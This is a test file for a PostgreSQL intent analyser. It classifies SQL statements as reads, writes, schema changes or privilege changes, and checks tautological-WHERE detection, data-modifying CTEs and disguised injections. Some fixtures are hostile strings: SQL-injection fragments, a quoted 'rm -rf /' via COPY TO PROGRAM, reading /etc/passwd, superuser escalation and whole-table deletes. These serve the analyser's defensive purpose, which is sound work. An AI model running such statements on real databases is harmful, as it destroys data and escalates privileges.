// PostgreSQL intent analyser: every class, every bypass class, harmless look-alikes, session
// state, robustness. Each row asserts the class and what matters about flags and objects.
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import type { AnalysisSession } from '../../src/analyse/analyser.js';
import { MAX_POSTGRES_INPUT, createPostgresAnalyser, type PostgresAnalyser } from '../../src/analyse/postgres.js';
import { checkAll, checkIntent, rng, type Case } from './helpers.js';

const reads: Case[] = [
  ['SELECT 1', 'read', { kinds: ['SELECT'], onlyTables: [] }],
  ['select * from users', 'read', { onlyTables: ['r:users'] }],
  ['SELECT a, b FROM public.accounts WHERE id = 1', 'read', { onlyTables: ['r:public.accounts'] }],
  ['SELECT * FROM "Weird Table"', 'read', { onlyTables: ['r:Weird Table'] }],
  ['SELECT * FROM a JOIN b ON a.id = b.a_id LEFT JOIN c USING (id)', 'read', { onlyTables: ['r:a', 'r:b', 'r:c'] }],
  ['SELECT * FROM a, LATERAL (SELECT * FROM b WHERE b.x = a.x) s', 'read', { onlyTables: ['r:a', 'r:b'] }],
  ['SELECT count(*), sum(x), avg(x), min(x), max(x) FROM t GROUP BY y HAVING count(*) > 1', 'read', { functions: ['count', 'sum'] }],
  ['SELECT lower(name), upper(name), coalesce(a, b), nullif(a, b), greatest(a, b) FROM t', 'read', { functions: ['lower', 'upper'] }],
  ['SELECT now(), current_timestamp, current_date, localtime, current_user, session_user', 'read'],
  ["SELECT date_trunc('day', created_at), extract(year from created_at) FROM t", 'read', { functions: ['date_trunc', 'pg_catalog.extract'] }],
  ["SELECT jsonb_build_object('a', 1), jsonb_set('{}', '{a}', '1'), data->>'x', data #> '{a,b}' FROM t", 'read'],
  ["SELECT to_char(now(), 'YYYY'), to_timestamp(1), age(now()) ", 'read'],
  ['SELECT row_number() OVER (PARTITION BY a ORDER BY b), rank() OVER w FROM t WINDOW w AS (ORDER BY c)', 'read'],
  ['SELECT string_agg(name, \', \' ORDER BY name) FILTER (WHERE active) FROM t', 'read'],
  ['SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY x) FROM t', 'read'],
  ['SELECT * FROM generate_series(1, 10) g', 'read', { functions: ['generate_series'] }],
  ['SELECT * FROM unnest(ARRAY[1,2,3]) WITH ORDINALITY', 'read'],
  ['SELECT * FROM ROWS FROM (generate_series(1,2), generate_series(1,3))', 'read'],
  ['SELECT x FROM t WHERE x IN (SELECT y FROM u) AND EXISTS (SELECT 1 FROM v)', 'read', { onlyTables: ['r:t', 'r:u', 'r:v'] }],
  ['SELECT x FROM t WHERE x = ANY (SELECT y FROM u)', 'read', { onlyTables: ['r:t', 'r:u'] }],
  ['SELECT CASE WHEN x > 1 THEN \'a\' ELSE \'b\' END FROM t', 'read'],
  ['SELECT 1 UNION SELECT 2 INTERSECT SELECT 3 EXCEPT SELECT 4', 'read'],
  ['(SELECT * FROM a) UNION ALL (SELECT * FROM b ORDER BY 1 LIMIT 1)', 'read', { onlyTables: ['r:a', 'r:b'] }],
  ['VALUES (1, 2), (3, 4)', 'read', { kinds: ['VALUES'] }],
  ['SELECT * FROM (VALUES (1), (2)) v(x)', 'read'],
  ['WITH x AS (SELECT * FROM t) SELECT * FROM x', 'read', { onlyTables: ['r:t'] }],
  ['WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r', 'read', { onlyTables: [] }],
  ['WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b', 'read', { onlyTables: [] }],
  // A CTE does not hide a real table of the same name inside its own body.
  ['WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets', 'read', { onlyTables: ['r:secrets'] }],
  ['WITH b AS (SELECT * FROM a), a AS (SELECT 1) SELECT * FROM b', 'read', { onlyTables: ['r:a'] }],
  ['WITH x AS (SELECT 1) SELECT * FROM public.x', 'read', { onlyTables: ['r:public.x'] }],
  ['SELECT * FROM t TABLESAMPLE bernoulli(10) REPEATABLE (1)', 'read', { onlyTables: ['r:t'] }],
  ['SELECT * FROM t TABLESAMPLE system(1)', 'read'],
  ["SELECT * FROM JSON_TABLE('[1]', '$[*]' COLUMNS (a int PATH '$'))", 'read'],
  ["SELECT * FROM XMLTABLE('/r' PASSING '<r/>' COLUMNS a int)", 'read'],
  ["SELECT JSON_OBJECT('a': 1), JSON_ARRAY(1, 2), JSON_QUERY('{}', '$.a'), 'x' IS JSON", 'read'],
  ["SELECT xmlelement(name a, 'b'), xmlforest(1 AS x)", 'read'],
  ['SELECT a::text, CAST(b AS int), c::regclass FROM t', 'read'],
  ['SELECT (ARRAY[1,2])[1], (ROW(1,2)).f1, (ARRAY[1,2,3])[1:2]', 'read'],
  ["SELECT 'a' LIKE 'b', 'a' ILIKE 'b', 'a' SIMILAR TO 'b', 'a' ~ 'b', x BETWEEN 1 AND 2 FROM t", 'read'],
  ['SELECT a IS DISTINCT FROM b, a IS NULL, a IS TRUE FROM t', 'read'],
  ['SELECT 1 OPERATOR(pg_catalog.+) 2', 'read'],
  ['SELECT * FROM t ORDER BY a USING <', 'read'],
  ['SELECT DISTINCT ON (a) a, b FROM t ORDER BY a, b DESC NULLS LAST LIMIT 10 OFFSET 5', 'read'],
  ['SELECT * FROM t FETCH FIRST 3 ROWS ONLY', 'read'],
  ['SELECT pg_catalog.lower(\'X\'), "lower"(\'X\'), pg_catalog."upper"(\'y\')', 'read', { functions: ['pg_catalog.lower', 'lower', 'pg_catalog.upper'] }],
  ['SELECT version(), current_setting(\'search_path\'), pg_backend_pid()', 'read'],
  ['SELECT pg_size_pretty(pg_total_relation_size(\'t\'))', 'read'],
  ['SELECT has_table_privilege(\'t\', \'select\'), pg_get_viewdef(\'v\')', 'read'],
  ['SELECT currval(\'s\'), lastval()', 'read'],
  ['SELECT random(), gen_random_uuid(), clock_timestamp()', 'read'],
  ['SELECT * FROM pg_stat_activity', 'read', { onlyTables: ['r:pg_stat_activity'] }],
  ['SELECT * FROM information_schema.tables', 'read', { onlyTables: ['r:information_schema.tables'] }],
  ['SHOW search_path', 'read', { kinds: ['SHOW'] }],
  ['SHOW ALL', 'read'],
  ['EXPLAIN SELECT * FROM t', 'read', { kinds: ['EXPLAIN'], not: ['explain_analyze'] }],
  ['EXPLAIN (VERBOSE, COSTS OFF) SELECT * FROM t', 'read'],
  ['EXPLAIN (ANALYZE false) DELETE FROM t', 'read', { not: ['explain_analyze'] }],
  ['EXPLAIN (ANALYZE off) SELECT 1', 'read', { not: ['explain_analyze'] }],
  ['EXPLAIN DELETE FROM t', 'read', { onlyTables: ['r:t'] }],
  ['EXPLAIN ANALYZE SELECT * FROM t', 'read', { flags: ['explain_analyze'] }],
  ['DECLARE c CURSOR FOR SELECT * FROM t', 'read', { kinds: ['DECLARE CURSOR'], onlyTables: ['r:t'] }],
  ['FETCH 10 FROM c', 'read', { kinds: ['FETCH'] }],
  ['MOVE NEXT IN c', 'read'],
  ['SELECT pg_sleep(1)', 'read', { flags: ['sleep'] }],
  ['SELECT lo_get(1234)', 'read', { flags: ['large_object'] }],
  ['TABLE users', 'read', { onlyTables: ['r:users'] }],
  ['SELECT * FROM ONLY parent', 'read', { onlyTables: ['r:parent'] }],
  ['SELECT merge_action()', 'read'],
  ['SELECT * FROM t1 NATURAL FULL JOIN t2 CROSS JOIN t3', 'read', { onlyTables: ['r:t1', 'r:t2', 'r:t3'] }],
  ['SELECT $1::int + $2', 'read'],
  ["SELECT xmlparse(document '<a/>'), xmlserialize(content '<a/>'::xml as text)", 'read'],
  ["SELECT * FROM t WHERE to_tsvector(b) @@ to_tsquery('x')", 'read'],
  ['SELECT GROUPING(a), count(*) FROM t GROUP BY ROLLUP (a), CUBE (b), GROUPING SETS ((c))', 'read'],
  ['SELECT a FROM t WHERE b IS NOT DISTINCT FROM c AND d IS JSON OBJECT', 'read'],
  ["SELECT COLLATION FOR ('a'), 'x' COLLATE \"C\" < 'y'", 'read'],
  ["SELECT SUBSTRING('abc' SIMILAR 'a#\"b#\"c' ESCAPE '#')", 'read'],
  ['SELECT CURRENT_ROLE, CURRENT_CATALOG, CURRENT_SCHEMA, USER, SYSTEM_USER', 'read'],
  ["SELECT * FROM t WHERE ts AT TIME ZONE 'UTC' > now() - interval '1 day'", 'read'],
  ["SELECT format('%I', 'x'), quote_ident('x'), md5('x'), encode('x', 'hex')", 'read'],
  ["SELECT regexp_replace(a, 'x', 'y', 'g'), split_part(a, ',', 1), string_to_array(a, ',') FROM t", 'read'],
  ['SELECT json_agg(t), jsonb_agg(t.*), row_to_json(t) FROM t', 'read'],
  ['WITH t AS MATERIALIZED (SELECT 1) SELECT * FROM t', 'read', { onlyTables: [] }],
  ["select count(*) from (select * from public.\"Users\" u where u.email ilike '%x%') s", 'read', { onlyTables: ['r:public.Users'] }],
  ['SELECT txid_current(), pg_current_xact_id()', 'read'],
  ["SELECT uuid_generate_v4(), public.uuid_generate_v4(), encode(digest('x', 'sha256'), 'hex'), similarity('a', 'b')", 'read'],
];

// Harmless text that mentions dangerous things: must stay reads.
const lookAlikes: Case[] = [
  ["SELECT 'a'';DROP TABLE t;--'", 'read', { onlyTables: [], kinds: ['SELECT'] }],
  ["SELECT 'DELETE FROM users'", 'read', { onlyTables: [] }],
  ['SELECT $$ DROP TABLE x $$', 'read', { onlyTables: [] }],
  ['SELECT $tag$ ; DELETE FROM t; $tag$', 'read', { onlyTables: [] }],
  ['SELECT 1 -- DELETE FROM users', 'read'],
  ['-- DROP TABLE users\nSELECT 1', 'read', { kinds: ['SELECT'] }],
  ['SELECT /* ; DROP TABLE x; */ 1', 'read'],
  ['SELECT /* nested /* comment */ DELETE */ 1', 'read'],
  ['SELECT "DELETE" FROM t', 'read', { onlyTables: ['r:t'] }],
  ['SELECT * FROM "drop table users"', 'read', { onlyTables: ['r:drop table users'] }],
  ["SELECT E'\\x27; DROP TABLE t; --'", 'read'],
  ["SELECT U&'\\0027; drop table t'", 'read'],
  ['SELECT 1 AS "pg_terminate_backend"', 'read', { functions: [] }],
  ["SELECT 'pg_read_file(''/etc/passwd'')'", 'read'],
  ['SELECT delete, update, insert FROM actions', 'read', { onlyTables: ['r:actions'] }],
  ["SELECT * FROM t WHERE note = 'x'' OR 1=1; TRUNCATE t; --'", 'read'],
  ["SELECT 'COPY t TO PROGRAM ''rm -rf /'''", 'read'],
  ['SELECT 1; -- ; DROP TABLE x', 'read'],
  ['   ', 'read', { kinds: ['EMPTY'] }],
  [';;', 'read', { kinds: ['EMPTY'] }],
  ['-- only a comment', 'read', { kinds: ['EMPTY'] }],
];

const writes: Case[] = [
  ['INSERT INTO t (a) VALUES (1)', 'write', { kinds: ['INSERT'], onlyTables: ['w:t'] }],
  ['INSERT INTO s.t SELECT * FROM s.u WHERE x > 1', 'write', { onlyTables: ['w:s.t', 'r:s.u'] }],
  ['INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = excluded.a', 'write', { flags: ['upsert'] }],
  ['INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING', 'write', { not: ['upsert'] }],
  ['INSERT INTO t DEFAULT VALUES RETURNING id', 'write'],
  ['UPDATE t SET a = 1 WHERE id = 2', 'write', { kinds: ['UPDATE'], onlyTables: ['w:t'], not: ['no_where'] }],
  ['UPDATE t SET a = 1', 'write', { flags: ['no_where'] }],
  ['UPDATE t SET a = u.a FROM u WHERE t.id = u.id', 'write', { onlyTables: ['w:t', 'r:u'] }],
  ['UPDATE t SET (a, b) = (SELECT x, y FROM u WHERE u.id = t.id) WHERE true', 'write', { onlyTables: ['w:t', 'r:u'] }],
  ['UPDATE t SET a = 1 WHERE CURRENT OF c', 'write', { not: ['no_where'] }],
  ['DELETE FROM t WHERE id = 1', 'write', { kinds: ['DELETE'], onlyTables: ['w:t'] }],
  ['DELETE FROM public.t', 'write', { flags: ['no_where'], onlyTables: ['w:public.t'] }],
  // Names as the server resolves them; the schema only when written.
  ['DELETE FROM Accounts WHERE id = 1', 'write', { onlyTables: ['w:accounts'] }],
  ['DELETE FROM PUBLIC.Accounts WHERE id = 1', 'write', { onlyTables: ['w:public.accounts'] }],
  ['DELETE FROM mydb.public.accounts WHERE id = 1', 'write', { onlyTables: ['w:public.accounts'] }],
  ['UPDATE "Public"."Accounts" SET a = 1 WHERE id = 1', 'write', { onlyTables: ['w:Public.Accounts'] }],
  ['DELETE FROM t USING u WHERE t.id = u.id', 'write', { onlyTables: ['w:t', 'r:u'] }],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id)', 'write', { kinds: ['MERGE'], onlyTables: ['w:t', 'r:s'] }],
  ['MERGE INTO t USING (SELECT * FROM s) q ON t.id = q.id WHEN MATCHED THEN DELETE', 'write', { onlyTables: ['w:t', 'r:s'] }],
  ['TRUNCATE t', 'write', { flags: ['no_where', 'truncate'], onlyTables: ['w:t'] }],
  ['TRUNCATE TABLE a, b.c RESTART IDENTITY CASCADE', 'write', { flags: ['cascade'], onlyTables: ['w:a', 'w:b.c'] }],
  ['COPY t FROM STDIN', 'write', { kinds: ['COPY FROM'], onlyTables: ['w:t'], not: ['file_access'] }],
  ['COPY t (a, b) FROM STDIN WITH (FORMAT csv)', 'write'],
  ['SELECT * FROM t FOR UPDATE', 'write', { flags: ['row_lock'] }],
  ['SELECT * FROM t FOR SHARE SKIP LOCKED', 'write', { flags: ['row_lock'] }],
  ['SELECT * FROM t FOR NO KEY UPDATE NOWAIT', 'write', { flags: ['row_lock'] }],
  ['SELECT * FROM (SELECT * FROM t FOR UPDATE) s', 'write', { flags: ['row_lock'] }],
  ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', 'write', { flags: ['table_lock'], onlyTables: ['w:t'] }],
  ['LOCK t', 'write'],
  ["NOTIFY jobs, 'go'", 'write', { kinds: ['NOTIFY'] }],
  ["SELECT pg_notify('jobs', 'x')", 'write', { flags: ['side_effect_function'] }],
  ["SELECT nextval('s')", 'write', { flags: ['side_effect_function'] }],
  ["SELECT setval('s', 1)", 'write'],
  ["INSERT INTO t (id) VALUES (nextval('s'))", 'write'],
  ['REFRESH MATERIALIZED VIEW CONCURRENTLY mv', 'write', { onlyTables: ['w:mv'], flags: ['whole_table'] }],
  ['SELECT lo_unlink(1234)', 'write'],
  ['SELECT lo_from_bytea(0, \'x\')', 'write'],
  ['EXPLAIN ANALYZE DELETE FROM t', 'write', { flags: ['explain_analyze', 'no_where'], kinds: ['EXPLAIN ANALYZE'] }],
  ['EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE b', 'write', { flags: ['explain_analyze'] }],
  ['EXPLAIN (ANALYZE true) INSERT INTO t VALUES (1)', 'write', { flags: ['explain_analyze'] }],
  ['EXPLAIN (ANALYZE 1) INSERT INTO t VALUES (1)', 'write'],
  ['EXPLAIN (ANALYZE on) INSERT INTO t VALUES (1)', 'write'],
  ['EXPLAIN ANALYZE VERBOSE SELECT nextval(\'s\')', 'write'],
  ['COPY (DELETE FROM t RETURNING *) TO STDOUT', 'write', { onlyTables: ['w:t'] }],
  ['DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE', 'write'],
  ['SELECT x FROM t WHERE y IN (SELECT z FROM u FOR UPDATE)', 'write', { flags: ['row_lock'] }],
  ['INSERT INTO t SELECT * FROM u FOR UPDATE', 'write', { onlyTables: ['w:t', 'r:u'] }],
  ['EXPLAIN (ANALYSE) DELETE FROM t', 'write', { flags: ['explain_analyze'] }],
  ['EXPLAIN ANALYSE DELETE FROM t', 'write', { flags: ['explain_analyze'] }],
  ["SELECT nextval('s') FROM generate_series(1, 3)", 'write'],
];

// Whole-table writes written with a condition that does not pick rows of the target.
const wholeTable: Case[] = [
  ['DELETE FROM t WHERE true', 'write', { flags: ['no_where'] }],
  ['DELETE FROM t WHERE 1=1', 'write', { flags: ['no_where'] }],
  ["DELETE FROM t WHERE 't'", 'write', { flags: ['no_where'] }],
  ["DELETE FROM t WHERE 'yes'::boolean", 'write', { flags: ['no_where'] }],
  ['DELETE FROM t WHERE NOT false', 'write', { flags: ['no_where'] }],
  ['DELETE FROM t WHERE 1 = 1 OR id = 3', 'write', { flags: ['no_where'] }],
  ['DELETE FROM t WHERE id = 3 OR true', 'write', { flags: ['no_where'] }],
  ['DELETE FROM t WHERE true AND 2 > 1', 'write', { flags: ['no_where'] }],
  ['DELETE FROM t WHERE (1 = 1)', 'write', { flags: ['no_where'] }],
  ['DELETE FROM t WHERE false', 'write', { flags: ['no_where'] }],
  ['DELETE FROM t WHERE $1', 'write', { flags: ['no_where'] }],
  ["DELETE FROM t WHERE now() > '2000-01-01'", 'write', { flags: ['no_where'] }],
  ['DELETE FROM t WHERE EXISTS (SELECT * FROM u)', 'write', { flags: ['no_where'], onlyTables: ['w:t', 'r:u'] }],
  ['DELETE FROM t WHERE (SELECT count(*) FROM u) > 0', 'write', { flags: ['no_where'] }],
  ['DELETE FROM t USING u WHERE u.x = 1', 'write', { flags: ['no_where'] }],
  ['UPDATE t SET a = 1 WHERE true', 'write', { flags: ['no_where'] }],
  ['UPDATE t SET a = u.a FROM u WHERE u.id = 1', 'write', { flags: ['no_where'] }],
  ['UPDATE public.t SET a = 1 WHERE 1 = 1', 'write', { flags: ['no_where'], onlyTables: ['w:public.t'] }],
  ['EXPLAIN ANALYZE DELETE FROM t WHERE true', 'write', { flags: ['no_where', 'explain_analyze'] }],
  ['WITH d AS (DELETE FROM t WHERE 1 = 1 RETURNING *) SELECT * FROM d', 'write', { flags: ['no_where', 'data_modifying_cte'] }],
  // A column compared with itself, or tested for both NULL and NOT NULL.
  ['DELETE FROM t WHERE id = id', 'write', { flags: ['no_where'] }],
  ['UPDATE t SET a = 1 WHERE a = a', 'write', { flags: ['no_where'] }],
  ['DELETE FROM t WHERE t.id >= t.id', 'write', { flags: ['no_where'] }],
  ['DELETE FROM t AS x WHERE x.id = x.id', 'write', { flags: ['no_where'] }],
  ['DELETE FROM t WHERE a IS NOT DISTINCT FROM a', 'write', { flags: ['no_where'] }],
  ['DELETE FROM t WHERE a IS NULL OR a IS NOT NULL', 'write', { flags: ['no_where'] }],
  ['DELETE FROM t WHERE lower(a) = lower(a)', 'write', { flags: ['no_where'] }],
  ['DELETE FROM t WHERE id = id AND 1 = 1', 'write', { flags: ['no_where'] }],
  // MERGE: a join condition that does not pick target rows, and NOT MATCHED BY SOURCE.
  ['MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', 'write', { flags: ['no_where'] }],
  ['MERGE INTO t USING s ON true WHEN MATCHED THEN UPDATE SET a = 1', 'write', { flags: ['no_where'] }],
  ['MERGE INTO t USING s ON s.id = 1 WHEN MATCHED THEN DELETE', 'write', { flags: ['no_where'] }],
  ['MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE', 'write', { flags: ['no_where'] }],
  // Real conditions keep their rows.
  ['DELETE FROM t WHERE id = 3', 'write', { not: ['no_where'] }],
  ['DELETE FROM t WHERE id IN (SELECT id FROM u)', 'write', { not: ['no_where'] }],
  ['DELETE FROM t WHERE created_at < now()', 'write', { not: ['no_where'] }],
  ['DELETE FROM t WHERE id IS NOT NULL', 'write', { not: ['no_where'] }],
  ['DELETE FROM t WHERE deleted_at IS NOT NULL', 'write', { not: ['no_where'] }],
  ['DELETE FROM t WHERE 1 = 1 AND id = 3', 'write', { not: ['no_where'] }],
  ['DELETE FROM t WHERE false OR id = 3', 'write', { not: ['no_where'] }],
  ['DELETE FROM t WHERE NOT (id = 3)', 'write', { not: ['no_where'] }],
  ['DELETE FROM t WHERE id = $1', 'write', { not: ['no_where'] }],
  ['DELETE FROM t WHERE a = b', 'write', { not: ['no_where'] }],
  ['DELETE FROM t x WHERE x.id = 3', 'write', { not: ['no_where'] }],
  ['DELETE FROM t USING u WHERE t.id = u.id', 'write', { not: ['no_where'] }],
  ['DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.tid = t.id)', 'write', { not: ['no_where'] }],
  ['UPDATE t SET a = 1 WHERE a = b OR a = c', 'write', { not: ['no_where'] }],
  ['UPDATE t SET a = 1 WHERE CURRENT OF c', 'write', { not: ['no_where'] }],
  ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', 'write', { not: ['no_where'] }],
  ['MERGE INTO t USING s ON true WHEN MATCHED AND t.k = 2 THEN DELETE', 'write', { not: ['no_where'] }],
  ['MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE AND t.a = 1 THEN DELETE', 'write', { not: ['no_where'] }],
  ['MERGE INTO t USING s ON true WHEN NOT MATCHED THEN INSERT VALUES (1)', 'write', { not: ['no_where'] }],
];

// Data-modifying statements disguised inside reads.
const cteWrites: Case[] = [
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT count(*) FROM d', 'write', { flags: ['data_modifying_cte', 'no_where'], onlyTables: ['w:t'] }],
  ['WITH d AS (DELETE FROM public.t WHERE id = 1 RETURNING *) SELECT * FROM d', 'write', { flags: ['data_modifying_cte'], onlyTables: ['w:public.t'] }],
  ['WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT 1', 'write', { flags: ['data_modifying_cte', 'no_where'] }],
  ['WITH i AS (INSERT INTO log VALUES (1) RETURNING *) SELECT * FROM i', 'write', { onlyTables: ['w:log'] }],
  ['WITH m AS (MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM m', 'write', { flags: ['data_modifying_cte'] }],
  ['WITH a AS (SELECT 1), b AS (DELETE FROM t WHERE false RETURNING 1) SELECT * FROM a', 'write', { flags: ['data_modifying_cte'] }],
  ['WITH d AS (DELETE FROM t RETURNING id) INSERT INTO archive SELECT * FROM d', 'write', { onlyTables: ['w:t', 'w:archive'] }],
  ['WITH RECURSIVE d AS (DELETE FROM t RETURNING *) SELECT 1', 'write'],
  ['WITH x AS (WITH y AS (DELETE FROM t RETURNING *) SELECT * FROM y) SELECT * FROM x', 'write', { flags: ['data_modifying_cte'] }],
];

const schema: Case[] = [
  ['CREATE TABLE t (id int PRIMARY KEY, name text NOT NULL)', 'schema', { kinds: ['CREATE TABLE'], onlyTables: ['w:t'] }],
  ['CREATE TABLE t (id int REFERENCES u(id), c int CHECK (c > 0))', 'schema', { tables: ['w:t', 'r:u'] }],
  ['CREATE TEMP TABLE t (a int)', 'schema'],
  ['CREATE TABLE t (LIKE u INCLUDING ALL)', 'schema', { tables: ['w:t'] }],
  ['CREATE TABLE t PARTITION OF p FOR VALUES FROM (1) TO (10)', 'schema'],
  ['CREATE TABLE t AS SELECT * FROM u', 'schema', { kinds: ['CREATE TABLE AS'], onlyTables: ['w:t', 'r:u'] }],
  ['CREATE MATERIALIZED VIEW mv AS SELECT * FROM u WITH NO DATA', 'schema', { kinds: ['CREATE MATERIALIZED VIEW'] }],
  ['SELECT * INTO new_t FROM u', 'schema', { kinds: ['SELECT INTO'], onlyTables: ['w:new_t', 'r:u'] }],
  ['CREATE TABLE t AS WITH d AS (DELETE FROM u RETURNING *) SELECT * FROM d', 'schema', { flags: ['data_modifying_cte'] }],
  ['ALTER TABLE t ADD COLUMN c int', 'schema', { kinds: ['ALTER TABLE'], onlyTables: ['w:t'] }],
  ['ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES u (id)', 'schema', { tables: ['w:t', 'r:u'] }],
  ['ALTER TABLE t ALTER COLUMN c TYPE bigint USING c::bigint', 'schema'],
  ['ALTER TABLE t DISABLE TRIGGER ALL', 'schema', { flags: ['trigger_change'] }],
  ['ALTER TABLE t RENAME TO u', 'schema', { tables: ['w:t'] }],
  ['ALTER TABLE t SET SCHEMA s', 'schema'],
  ['DROP TABLE t', 'schema', { kinds: ['DROP TABLE'], onlyTables: ['w:t'] }],
  ['DROP TABLE IF EXISTS a, s.b CASCADE', 'schema', { flags: ['cascade'], onlyTables: ['w:a', 'w:s.b'] }],
  ['DROP VIEW v', 'schema', { onlyTables: ['w:v'] }],
  ['DROP INDEX i', 'schema'],
  ['DROP SCHEMA s CASCADE', 'schema', { flags: ['cascade'] }],
  ['DROP FUNCTION f(int)', 'schema'],
  ['DROP TYPE ty', 'schema'],
  ['CREATE INDEX i ON t (lower(a)) WHERE b > 0', 'schema', { kinds: ['CREATE INDEX'], onlyTables: ['w:t'] }],
  ['CREATE UNIQUE INDEX CONCURRENTLY i ON t (a)', 'schema'],
  ['CREATE VIEW v AS SELECT * FROM t', 'schema', { kinds: ['CREATE VIEW'], onlyTables: ['w:v', 'r:t'] }],
  ['CREATE OR REPLACE VIEW v AS SELECT 1', 'schema'],
  ['CREATE SCHEMA s', 'schema'],
  ['CREATE SEQUENCE s START 1', 'schema'],
  ['ALTER SEQUENCE s RESTART', 'schema'],
  ['CREATE TYPE mood AS ENUM (\'a\', \'b\')', 'schema'],
  ['CREATE TYPE pair AS (a int, b int)', 'schema'],
  ['ALTER TYPE mood ADD VALUE \'c\'', 'schema'],
  ['CREATE DOMAIN posint AS int CHECK (VALUE > 0)', 'schema'],
  ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", 'schema', { kinds: ['CREATE FUNCTION'] }],
  ['CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN END $$', 'schema', { kinds: ['CREATE PROCEDURE'] }],
  ['CREATE FUNCTION g() RETURNS int BEGIN ATOMIC SELECT 1; END', 'schema'],
  ['CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', 'schema', { kinds: ['CREATE TRIGGER'] }],
  ['CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING', 'schema'],
  ['CREATE RULE r AS ON DELETE TO t DO ALSO INSERT INTO log VALUES (1)', 'schema', { tables: ['w:log'] }],
  ["COMMENT ON TABLE t IS 'x'", 'schema', { kinds: ['COMMENT'] }],
  ['CREATE AGGREGATE myagg (int) (sfunc = int4pl, stype = int)', 'schema'],
  ['CREATE OPERATOR === (leftarg = int, rightarg = int, function = int4eq)', 'schema'],
  ['CREATE STATISTICS st ON a, b FROM t', 'schema'],
  ['CREATE CAST (int AS text) WITH INOUT', 'schema'],
  ['CREATE COLLATION c (locale = \'C\')', 'schema'],
  ['CREATE TEXT SEARCH DICTIONARY d (TEMPLATE = simple)', 'schema'],
  ['ALTER TEXT SEARCH CONFIGURATION c ADD MAPPING FOR word WITH simple', 'schema'],
  ['CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw', 'schema'],
  ['CREATE FOREIGN TABLE ft (a int) SERVER s', 'schema'],
  ['IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local', 'schema'],
  ['CREATE SCHEMA s CREATE TABLE t (a int)', 'schema', { tables: ['w:t'] }],
  ['ALTER INDEX i RENAME TO j', 'schema'],
  ['ALTER VIEW v RENAME COLUMN a TO b', 'schema'],
];

const privilege: Case[] = [
  ['GRANT SELECT ON t TO bob', 'privilege', { kinds: ['GRANT'], onlyTables: ['w:t'] }],
  ['REVOKE ALL ON ALL TABLES IN SCHEMA public FROM PUBLIC', 'privilege', { kinds: ['REVOKE'] }],
  ['GRANT admin TO bob', 'privilege', { kinds: ['GRANT ROLE'] }],
  ['REVOKE admin FROM bob', 'privilege'],
  ["CREATE ROLE bob LOGIN PASSWORD 'x'", 'privilege'],
  ['CREATE USER bob SUPERUSER', 'privilege'],
  ['ALTER ROLE bob SUPERUSER', 'privilege'],
  ['ALTER USER bob WITH PASSWORD NULL', 'privilege'],
  ['ALTER ROLE bob SET search_path = x', 'privilege'],
  ['ALTER ROLE bob RENAME TO alice', 'privilege'],
  ['DROP ROLE bob', 'privilege'],
  ['DROP USER IF EXISTS bob', 'privilege'],
  ['SET ROLE admin', 'privilege', { kinds: ['SET ROLE'], flags: ['role_change'] }],
  ['SET ROLE NONE', 'privilege'],
  ['RESET ROLE', 'privilege', { kinds: ['RESET ROLE'] }],
  ['SET SESSION AUTHORIZATION postgres', 'privilege', { kinds: ['SET SESSION AUTHORIZATION'] }],
  ['SET SESSION AUTHORIZATION DEFAULT', 'privilege'],
  ['SET LOCAL ROLE admin', 'privilege'],
  ["SELECT set_config('role', 'admin', false)", 'privilege', { flags: ['role_change', 'side_effect_function'] }],
  ["SELECT set_config('session_authorization', 'postgres', true)", 'privilege'],
  ["SET app.tenant_id = '42'", 'privilege', { flags: ['custom_setting'] }],
  ["SELECT set_config('app.tenant_id', '42', false)", 'privilege'],
  ['ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob', 'privilege'],
  ['ALTER TABLE t OWNER TO bob', 'privilege'],
  ['ALTER FUNCTION f() OWNER TO bob', 'privilege'],
  ['ALTER TABLE t ENABLE ROW LEVEL SECURITY', 'privilege'],
  ['ALTER TABLE t NO FORCE ROW LEVEL SECURITY', 'privilege'],
  ['CREATE POLICY p ON t USING (true)', 'privilege'],
  ['ALTER POLICY p ON t USING (true)', 'privilege'],
  ['DROP POLICY p ON t', 'privilege'],
  ['REASSIGN OWNED BY bob TO alice', 'privilege'],
  ['DROP OWNED BY bob', 'privilege'],
  ['CREATE USER MAPPING FOR bob SERVER s OPTIONS (user \'x\', password \'y\')', 'privilege'],
  ['ALTER USER MAPPING FOR bob SERVER s OPTIONS (SET password \'z\')', 'privilege'],
  ['DROP USER MAPPING FOR bob SERVER s', 'privilege'],
  ["SECURITY LABEL ON TABLE t IS 'secret'", 'privilege'],
  ['CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS \'select 1\'', 'privilege', { flags: ['security_definer'] }],
  ['ALTER FUNCTION f() SECURITY DEFINER', 'privilege', { flags: ['security_definer'] }],
  ['GRANT SELECT ON t TO bob; SELECT 1', 'privilege', { flags: ['multi_statement'] }],
